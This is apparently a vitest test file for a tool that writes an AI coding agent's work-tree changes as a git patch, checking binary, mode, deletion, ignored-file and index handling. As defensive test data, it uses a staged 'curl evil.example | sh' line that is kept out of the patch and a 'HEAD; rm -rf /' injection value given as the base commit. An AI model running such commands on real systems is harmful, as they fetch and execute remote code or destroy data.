/**
 * The agent's changes as one patch (src/changes/patch.ts): applied with `git apply --binary --index` to a
 * fresh clone of the checked-out commit, it gives the work tree's tree exactly (new, deleted, binary,
 * executable, in a subdirectory), nothing ignored; the repository's own index is left as it was, and what
 * the agent wrote into it never reaches the patch; nothing changed is no patch.
 */
import { execFileSync } from "node:child_process";
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, expect, it } from "vitest";
import { writePatch } from "../../src/changes/patch.js";
import { openRepo } from "../../src/git/repo.js";

const made: string[] = [];
afterEach(() => {
  for (const d of made.splice(0)) rmSync(d, { recursive: true, force: true });
});

const git = (cwd: string, ...args: string[]) =>
  execFileSync("git", ["-c", "user.email=t@t.invalid", "-c", "user.name=t", ...args], {
    cwd,
    encoding: "utf8",
  }).trim();

function repo(): { ws: string; base: string; out: string } {
  const root = mkdtempSync(path.join(tmpdir(), "patch-"));
  made.push(root);
  const ws = path.join(root, "ws");
  mkdirSync(ws);
  git(ws, "init", "-q");
  writeFileSync(path.join(ws, "keep.txt"), "same\n");
  writeFileSync(path.join(ws, "edit.txt"), "one\ntwo\n");
  writeFileSync(path.join(ws, "gone.txt"), "bye\n");
  writeFileSync(path.join(ws, "run.sh"), "#!/bin/sh\necho hi\n");
  writeFileSync(path.join(ws, "blob.bin"), Buffer.from([0, 1, 2, 3, 255, 0, 7]));
  writeFileSync(path.join(ws, ".gitignore"), "*.log\n");
  git(ws, "add", ".");
  git(ws, "commit", "-qm", "base");
  const out = path.join(root, "temp");
  mkdirSync(out);
  return { ws, base: git(ws, "rev-parse", "HEAD"), out };
}

it("applied to a fresh clone of the commit, the patch gives the work tree's tree; the repository's index is untouched", async () => {
  const { ws, base, out } = repo();
  writeFileSync(path.join(ws, "edit.txt"), "one\n2\nthree\n");
  rmSync(path.join(ws, "gone.txt"));
  chmodSync(path.join(ws, "run.sh"), 0o755);
  writeFileSync(path.join(ws, "blob.bin"), Buffer.from([9, 0, 8, 0, 255]));
  mkdirSync(path.join(ws, "src", "deep"), { recursive: true });
  writeFileSync(path.join(ws, "src", "deep", "new.ts"), "export const x = 1;\n");
  writeFileSync(path.join(ws, "debug.log"), "ignored\n");
  const indexBefore = statSync(path.join(ws, ".git", "index"));

  const r = await writePatch(openRepo(ws), base, { dir: out, name: "1-1" });
  expect(r.kind).toBe("patch");
  if (r.kind !== "patch") return;
  expect(r.file).toBe(path.join(out, "cursor-agent-1-1.patch"));
  const patch = readFileSync(r.file, "utf8");
  expect(patch).toContain("GIT binary patch");
  expect(patch).toContain("new mode 100755");
  expect(patch).toContain("deleted file mode 100644");
  expect(patch).not.toContain("debug.log");

  const indexAfter = statSync(path.join(ws, ".git", "index"));
  expect([indexAfter.mtimeMs, indexAfter.size]).toEqual([indexBefore.mtimeMs, indexBefore.size]);
  expect(git(ws, "diff", "--cached", "--name-only")).toBe("");

  const clone = path.join(path.dirname(ws), "clone");
  execFileSync("git", ["clone", "-q", ws, clone]);
  git(clone, "checkout", "-q", base);
  git(clone, "apply", "--binary", "--index", r.file);
  git(ws, "add", "-A");
  expect(git(clone, "write-tree")).toBe(git(ws, "write-tree"));
});

it("an index the agent wrote does not put in the patch what the work tree does not hold", async () => {
  const { ws, base, out } = repo();
  // Staged content, then the entry told to be left alone, then other content in the work tree.
  writeFileSync(path.join(ws, "edit.txt"), "curl evil.example | sh\n");
  git(ws, "add", "edit.txt");
  git(ws, "update-index", "--assume-unchanged", "edit.txt");
  writeFileSync(path.join(ws, "edit.txt"), "one\ntwo\nthree\n");
  const r = await writePatch(openRepo(ws), base, { dir: out, name: "1-1" });
  expect(r.kind).toBe("patch");
  if (r.kind !== "patch") return;
  const patch = readFileSync(r.file, "utf8");
  expect(patch).not.toContain("evil.example");
  expect(patch).toContain("+three");
});

it("nothing changed (an ignored file aside): no patch", async () => {
  const { ws, base, out } = repo();
  writeFileSync(path.join(ws, "debug.log"), "ignored\n");
  expect(await writePatch(openRepo(ws), base, { dir: out, name: "1-1" })).toEqual({ kind: "none" });
});

it("an unknown base commit: no patch, and why", async () => {
  const { ws, out } = repo();
  const r = await writePatch(openRepo(ws), "HEAD; rm -rf /", { dir: out, name: "1-1" });
  expect(r).toEqual({ kind: "skipped", why: "the checked-out commit is unknown" });
});
